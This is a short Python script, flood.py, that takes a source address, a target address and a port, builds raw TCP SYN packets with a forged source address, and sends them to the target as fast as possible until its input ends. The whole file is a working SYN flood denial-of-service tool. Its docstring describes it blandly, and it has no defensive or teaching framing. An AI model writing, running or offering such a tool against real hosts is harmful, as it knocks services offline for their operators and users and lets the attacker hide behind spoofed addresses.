"""flood.py FROM TO PORT: sends the first packet of a connection, over and over, as fast as it can, until its input ends."""

import select
import socket
import struct
import sys

source, to = (socket.inet_aton(text) for text in sys.argv[1:3])
port = int(sys.argv[3])


def summed(data):
    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(client_port):
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, to)
    tcp = lambda check: struct.pack(">HHIIBBHHH", client_port, port, 1, 0, 5 << 4, 2, 1024, check, 0)
    return ip + tcp(summed(source + to + struct.pack(">HH", socket.IPPROTO_TCP, 20) + tcp(0)))


packets = [syn(client_port) for client_port in range(20000, 24000)]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
place = (sys.argv[2], 0)
while not select.select([sys.stdin], [], [], 0)[0]:
    for packet in packets:
        raw.sendto(packet, place)
